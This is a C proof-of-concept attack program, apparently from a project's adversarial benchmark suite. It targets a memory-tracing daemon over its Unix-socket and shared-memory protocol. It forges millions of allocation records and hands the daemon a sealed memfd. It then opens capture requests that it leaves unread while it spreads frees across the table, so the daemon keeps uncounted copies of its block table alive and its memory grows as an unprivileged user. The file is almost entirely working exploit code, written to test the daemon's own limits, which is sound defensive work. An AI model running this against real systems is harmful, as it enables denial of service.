/*
 * view_pin.c - (hostile9) capture views pin copies of the block table that
 * no bound charges. A capture (traceback/top/snapshot) takes a view sharing
 * the heap's 64 KiB chunks; the view is released only when its job starts on
 * the thread pool. While the pool is busy (another job of the same user: a
 * big exit snapshot), each capture taken, then a few thousand frees spread
 * over the table, leaves one more full generation of chunks alive:
 * capture_memory() does not count the view, queued_snapshot_bytes neither.
 *
 * Build: cc -O2 -Iproto -o /tmp/view_pin bench/attacks/view_pin.c /tmp/b-hostile9/.libs/libproto.a
 * Run (as the attacker): setpriv --reuid=65534 --regid=65534 --clear-groups \
 *          /tmp/view_pin RUNDIR [BLOCKS=2000000] [CONNS=16] [FREES=8000]
 * Start 4 busy jobs first (bench/attacks/frame_leak RUNDIR 8192 1 BASE, x4),
 * then watch VmRSS of memtraced.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "proto.h"
#include "shm.h"

static int uconnect(const char *dir, const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path, sizeof a.sun_path, "%s/%s", dir, name);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
		perror("connect");
		exit(1);
	}
	return fd;
}

static char *map;
static uint64_t seq = 1;
static uint32_t ring;

static void rec(unsigned kind, uint64_t addr)
{
	struct shm_ring *r = (struct shm_ring *)(map + SHM_OFF_RING(ring));
	uint64_t h = atomic_load(&r->head);
	if (h == SHM_RING_CAP - 1) {
		atomic_store(&r->pending, UINT64_MAX);
		ring++;
		if (ring >= SHM_NRINGS) {
			fprintf(stderr, "out of rings\n");
			exit(1);
		}
		r = (struct shm_ring *)(map + SHM_OFF_RING(ring));
		h = atomic_load(&r->head);
	}
	r->ev[h % SHM_RING_CAP] = (struct shm_ev){seq++ << PROTO_EV_KIND_BITS | kind, addr,
	                                          kind == PROTO_EV_ALLOC ? 64 : 0, 0, 0};
	atomic_store(&r->head, h + 1);
}

static void publish(void)
{
	for (uint32_t i = 0; i <= ring; i++)
		atomic_store(&((struct shm_ring *)(map + SHM_OFF_RING(i)))->pending, UINT64_MAX);
	atomic_store(&((struct shm_header *)map)->nrings, ring + 1);
	atomic_store(&((struct shm_header *)map)->seq, seq);
}

int main(int argc, char **argv)
{
	const char *dir = argv[1];
	uint32_t B = argc > 2 ? (uint32_t)atoi(argv[2]) : 2000000;
	int conns = argc > 3 ? atoi(argv[3]) : 16;
	uint32_t F = argc > 4 ? (uint32_t)atoi(argv[4]) : 8000;
	int r = memfd_create("vp", MFD_CLOEXEC | MFD_ALLOW_SEALING);
	if (ftruncate(r, (off_t)SHM_SIZE) < 0 ||
	    fcntl(r, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW) < 0)
		return 1;
	map = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, r, 0);
	((struct shm_header *)map)->magic = SHM_MAGIC;
	((struct shm_header *)map)->version = PROTO_VERSION;
	for (uint32_t i = 0; i < B; i++)
		rec(PROTO_EV_ALLOC, 0x10000000 + (uint64_t)i * 64);
	publish();
	static const char exe[] = "/bin/viewpin";
	uint8_t hello[1024];
	struct proto_hello hh = {.version = PROTO_VERSION,
	                         .nframes = 32,
	                         .pid = (uint32_t)getpid(),
	                         .exe = exe,
	                         .exe_len = sizeof exe - 1,
	                         .cmdline = exe,
	                         .cmdline_len = sizeof exe};
	ssize_t hn = proto_hello_encode(hello, sizeof hello, &hh);
	int fd = uconnect(dir, "agent.sock");
	union {
		struct cmsghdr h;
		char space[CMSG_SPACE(sizeof(int))];
	} ctl;
	struct iovec iov = {hello, (size_t)hn};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
	memset(&ctl, 0, sizeof ctl);
	msg.msg_control = ctl.space;
	msg.msg_controllen = sizeof ctl.space;
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &r, sizeof(int));
	if (sendmsg(fd, &msg, MSG_NOSIGNAL) != hn)
		return 1;
	uint8_t wake[8];
	proto_empty_encode(wake, sizeof wake, PROTO_WAKE);
	send(fd, wake, 8, MSG_NOSIGNAL);
	sleep(3); /* the daemon reads the allocations */
	uint32_t freed = 0;
	for (int k = 0; k < conns; k++) {
		int cc = uconnect(dir, "control.sock");
		char req[128];
		int n = snprintf(req, sizeof req, "{\"cmd\":\"%s\",\"pid\":%d}\n",
		                 k % 2 ? "top" : "traceback", (int)getpid());
		if (send(cc, req, (size_t)n, MSG_NOSIGNAL) != n)
			return 1;
		usleep(50000); /* the capture is taken */
		/* frees spread over the table: a chunk copy each in the heap */
		uint64_t stride = B / F;
		for (uint32_t j = 0; j < F && freed < B; j++, freed++) {
			uint64_t idx = ((uint64_t)k + (uint64_t)j * stride * 7919) % B;
			rec(PROTO_EV_FREE, 0x10000000 + idx * 64);
			rec(PROTO_EV_ALLOC, 0x10000000 + idx * 64);
		}
		publish();
		send(fd, wake, 8, MSG_NOSIGNAL);
		usleep(200000);
		/* cc stays open, unread */
	}
	printf("view_pin: %u blocks, %d captures, %u frees+allocs\n", B, conns, freed);
	fflush(stdout);
	sleep(30);
	return 0;
}
